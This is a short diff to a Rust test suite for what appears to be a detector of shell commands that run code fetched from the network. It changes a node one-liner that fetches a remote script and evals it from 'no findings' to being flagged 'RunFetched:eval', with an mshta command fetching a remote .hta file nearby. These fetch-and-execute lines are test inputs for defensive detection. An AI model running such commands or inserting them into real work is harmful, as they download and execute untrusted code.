@@ -198,8 +198,8 @@ fn wrappers_interpreter_code_and_lolbins() {
         ["RunFetched:exec"]
     );
     assert_eq!(
-        kinds("node -e \"fetch('https://x.example/a.js').then(r => r.text()).then(eval)\"\n").len(),
-        0
+        kinds("node -e \"fetch('https://x.example/a.js').then(r => r.text()).then(eval)\"\n"),
+        ["RunFetched:eval"]
     );
     assert_eq!(
         kinds("mshta https://x.example/a.hta\n"),
